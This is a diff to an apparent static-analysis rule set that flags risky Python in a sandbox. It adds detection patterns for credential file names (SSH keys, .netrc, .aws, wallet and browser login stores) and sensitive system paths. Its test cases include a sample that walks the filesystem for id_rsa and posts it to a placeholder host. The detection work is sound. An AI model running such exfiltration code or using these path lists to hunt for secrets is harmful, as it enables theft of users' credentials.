@@ -63,7 +63,16 @@ const CHANGERS = ['os.chmod', 'pathlib.Path.chmod', 'os.fchmod'];
 const OPENERS = ['open', 'codecs.open', 'os.open', 'pathlib.Path.open', 'aiofiles.open'];
 const WRITING = { arg: [1, 'mode'], regex: '^[rb]{0,2}[waxt]|\\+' } as const;
 
-const ACCOUNTS = ['/etc/passwd', '/etc/shadow', '/etc/sudoers', '/etc/gshadow', '/etc/ssh/', '/root/', '/var/log/auth'];
+const ACCOUNTS = [
+  '/etc/passwd',
+  '/etc/group',
+  '/etc/shadow',
+  '/etc/sudoers',
+  '/etc/gshadow',
+  '/etc/ssh/',
+  '/root/',
+  '/var/log/auth',
+];
 const CREDENTIALS = [
   '.ssh/',
   '.ssh',
@@ -270,7 +279,11 @@ export const fileRules: readonly Rule[] = [
       },
       {
         all: [
-          { call: ['os.walk', 'glob.*', 'os.listdir', 'pathlib.Path.rglob', 'pathlib.Path.glob', 'os.scandir'] },
+          {
+            call: ['os.walk', 'glob.*', 'os.listdir', 'pathlib.Path.rglob', 'pathlib.Path.glob', 'os.scandir'],
+            // A folder below the current one is the program's own.
+            where: { arg: 0, regex: '^(?!/|~|\\.\\.|\\.?/?$|\\*|\\$)', not: true },
+          },
           {
             call: ['os.remove', 'os.unlink', 'shutil.rmtree', '?.unlink', 'pathlib.Path.unlink'],
             where: { arg: 0, is: 'non-literal' },
@@ -396,6 +409,39 @@ export const fileRules: readonly Rule[] = [
     ],
   },
   {
+    id: 'py/filesystem/credential-name',
+    languages,
+    severity: 'low',
+    message: 'Names a file that holds keys or credentials',
+    recommendation: 'Leave credentials out of programs that run in the sandbox',
+    metadata: { capability: 'filesystem', cwe: 'CWE-552' },
+    tags: ['credential-name'],
+    match: {
+      string: {
+        regex:
+          '(?:^|/)(?:id_(?:rsa|dsa|ecdsa|ed25519)|\\.git-credentials|\\.netrc|\\.pypirc|\\.npmrc|\\.pgpass|\\.aws|\\.ssh|\\.kube|\\.gnupg|wallet\\.dat|logins\\.json|Login Data|key4\\.db)$',
+      },
+    },
+    bad: ["names = ('id_rsa', '.pypirc')", "print('.netrc')"],
+    ok: ["print('id')", "print('rsa')", "print('my.netrc.txt')"],
+  },
+  {
+    id: 'py/filesystem/credentials-sent',
+    languages,
+    severity: 'high',
+    message: 'Looks for files by the names of credentials, opens files and talks to the network',
+    recommendation: 'Leave credentials out of programs that run in the sandbox',
+    metadata: { capability: 'filesystem', cwe: 'CWE-200' },
+    match: { combine: ['credential-name', ['py/filesystem/open'], 'send'] },
+    bad: [
+      "import os, requests\nfor d, _, fs in os.walk('/'):\n    for f in fs:\n        if f == 'id_rsa':\n            requests.post('http://example.org', data=open(os.path.join(d, f)))",
+    ],
+    ok: [
+      "import os\nfor d, _, fs in os.walk('.'):\n    for f in fs:\n        if f == '.npmrc':\n            print(os.path.join(d, f))",
+      "import requests\nprint('id_rsa')\nrequests.get('http://example.org')",
+    ],
+  },
+  {
     id: 'py/environment-secrets/process-environment',
     languages,
     severity: 'high',
@@ -463,7 +509,15 @@ export const fileRules: readonly Rule[] = [
         call: [...OPENERS],
         where: {
           arg: 0,
-          contains: ['/proc/kcore', '/dev/mem', '/dev/kmem', '/dev/port', '/proc/1/root', 'sysrq-trigger'],
+          contains: [
+            '/proc/kcore',
+            '/dev/mem',
+            '/dev/kmem',
+            '/dev/port',
+            '/proc/1/root',
+            '/proc/1/ns/',
+            'sysrq-trigger',
+          ],
         },
       },
       { call: WRITERS, where: { arg: 0, contains: KERNEL } },
